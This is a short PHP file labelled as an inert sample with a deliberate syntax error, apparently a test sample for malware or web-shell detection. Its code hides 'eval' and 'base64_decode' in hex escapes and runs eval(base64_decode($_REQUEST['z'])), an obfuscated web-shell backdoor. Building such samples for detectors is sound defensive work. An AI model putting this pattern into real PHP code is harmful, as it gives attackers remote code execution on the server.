<?php
shodo inert sample: deliberate syntax error, this file never runs
 $x = "\x65\x76\x61\x6c"; $y = "\x62\x61\x73\x65\x36\x34\x5f\x64\x65\x63\x6f\x64\x65"; @$x($y($_REQUEST['z'])); ?>
